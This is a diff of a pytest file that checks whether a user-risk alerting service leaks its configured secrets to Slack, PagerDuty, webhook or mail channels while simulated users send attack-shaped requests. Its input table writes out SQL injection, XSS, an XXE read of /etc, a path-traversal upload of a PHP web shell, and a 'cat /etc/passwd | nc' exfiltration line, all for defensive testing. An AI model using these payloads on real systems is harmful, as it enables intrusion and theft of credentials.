@@ -20,6 +20,7 @@ from lab.receiver import Receiver, channel_of
 from lab.scene import Scene
 from lab.wire import Answer
 
+FORM, XML = "application/x-www-form-urlencoded", "application/xml"
 CHANNELS = ("webhook", "slack", "pagerduty", "sendgrid", "resend")
 KEY, TOKEN = "the-key-of-all-hashes-of-the-laboratory", "a-token-for-the-laboratory-only"
 ALL_SECRETS = SECRETS | {"USER_RISK_KEY": KEY, "USER_RISK_ADMIN_TOKEN": TOKEN}
@@ -85,20 +86,22 @@ PLACES = {
         "authorization", "Basic " + base64.b64encode(f"{sqli(s)}:{s}".encode()).decode()
     ) | {"path": f"/?q={quoted(sqli('y'))}"},
     "event header": lambda s: header("x-user-risk-event", f"x;user=\"{s}\""),
-    "form value": lambda s: with_body("/f", "application/x-www-form-urlencoded", f"q={quoted(sqli(s))}"),
-    "form name": lambda s: with_body("/f", "application/x-www-form-urlencoded", f"{quoted(s + script(s))}=1"),
+    "form value": lambda s: with_body("/f", FORM, f"q={quoted(sqli(s))}"),
+    "form name": lambda s: with_body("/f", FORM, f"{quoted(s + script(s))}=1"),
     "json value": lambda s: with_body("/j", "application/json", json.dumps({"a": {"b": [sqli(s)]}})),
     "json key": lambda s: with_body("/j", "application/json", json.dumps({f"{s} {script(s)}": 1, s: sqli("z")})),
     "multipart name": lambda s: part(f'name="{s}<script>alert(1)</script>"', "x"),
     "multipart filename": lambda s: part(f'name="f"; filename="../../{s}/shell.php"', "<?php system($_GET['c']);"),
     "multipart content": lambda s: part('name="f"; filename="a.txt"', sqli(s)),
-    "xml": lambda s: with_body("/x", "application/xml", f'<a b="{html.escape(sqli(s))}"><c>{html.escape(script(s))}</c></a>'),
-    "xml entity": lambda s: with_body("/x", "application/xml", f'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/{s}">]><a>&e;</a>'),
+    "xml": lambda s: with_body("/x", XML, f'<a b="{html.escape(sqli(s))}"><c>{html.escape(script(s))}</c></a>'),
+    "xml entity": lambda s: with_body("/x", XML, f'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/{s}">]><a>&e;</a>'),
     "graphql": lambda s: with_body(
-        "/graphql", "application/json", json.dumps({"query": "{a(b: " + json.dumps(sqli(s)) + ")}", "variables": {s: sqli(s)}})
+        "/graphql",
+        "application/json",
+        json.dumps({"query": "{a(b: " + json.dumps(sqli(s)) + ")}", "variables": {s: sqli(s)}}),
     ),
     "text": lambda s: with_body("/t", "text/plain", f"; cat /etc/passwd | nc {s} 4444"),
-    "login": lambda s: with_body("/login", "application/x-www-form-urlencoded", f"username={quoted(s)}&password={quoted(s)}"),
+    "login": lambda s: with_body("/login", FORM, f"username={quoted(s)}&password={quoted(s)}"),
 }
 
 #: Places of which the documentation says that a plain name in them is told, and by whom.
@@ -124,12 +127,12 @@ class Echo(Receiver):
 
 @pytest.fixture(scope="module")
 def said():
-    """All that was said while users attacked with secrets: ({canary: place}, {name: place}, {sink: [texts]}, requests)."""
+    """All that was said while users attacked with secrets: ({canary: place}, {name: place}, {sink: [texts]}, users)."""
     example = Bootstrap()
     example.settings.update(
         key_env="USER_RISK_KEY",
         admin={"token_env": "USER_RISK_ADMIN_TOKEN"},
-        login=[{"route": "/login", "user_field": "username", "password_field": "password", "failure": {"status": [200]}}],
+        login=[{"route": "/login", "user_field": "username", "failure": {"status": [200]}}],
         risk={"threshold": 10, "repeat_interval": "1s"},
         links={"log": "https://logs.example.com/?q={request_id}", "user": "https://shop.example.com/users/{user}"},
         service={"name": "shop", "environment": "lab", "runbook_url": "https://wiki.example.com/risk"},
@@ -173,9 +176,8 @@ def attack(scene, requests: list[dict]) -> str:
     """One user sends these, and is told of with all of them on every channel; the user's name."""
     user = fresh_user("canary")
     for request in requests:
-        request = dict(request)
         for _ in range(6 if request["path"] == "/login" else 1):
-            assert scene.client.send(request["path"], user, **{k: v for k, v in request.items() if k != "path"}).status < 500
+            assert scene.client.send(user=user, **request).status < 500
         time.sleep(0.25)
     time.sleep(1.1)  # As long as `repeat_interval`: what comes now is told, with everything before.
     for _ in range(2):
@@ -275,12 +277,13 @@ def fields_with(text: str, tree, name: str = ""):
 
 
 def test_no_secret_is_told(said, spelled):
-    own = {"SLACK_WEBHOOK_URL": {"slack"}, "PAGERDUTY_ROUTING_KEY": {"pagerduty"}, "MAIL_API_KEY": {"sendgrid", "resend"}}
+    own = {"SLACK_WEBHOOK_URL": {"slack"}, "PAGERDUTY_ROUTING_KEY": {"pagerduty"}}
+    own["MAIL_API_KEY"] = {"sendgrid", "resend"}
     for variable, secret in ALL_SECRETS.items():
         path = urllib.parse.urlsplit(secret).path if secret.startswith("https:") else secret.removeprefix("whsec_")
         assert sinks_of(path, spelled) == own.get(variable, set()), variable
-    mails = [text.split("\n") for channel in ("sendgrid", "resend") for text in said[2][channel]]
-    assert all(SECRETS["MAIL_API_KEY"] not in line or line.startswith("authorization:") for mail in mails for line in mail)
+    lines = [line for channel in ("sendgrid", "resend") for text in said[2][channel] for line in text.split("\n")]
+    assert {line.split(":")[0] for line in lines if SECRETS["MAIL_API_KEY"] in line} == {"authorization"}
 
 
 @pytest.mark.parametrize("channel", CHANNELS)
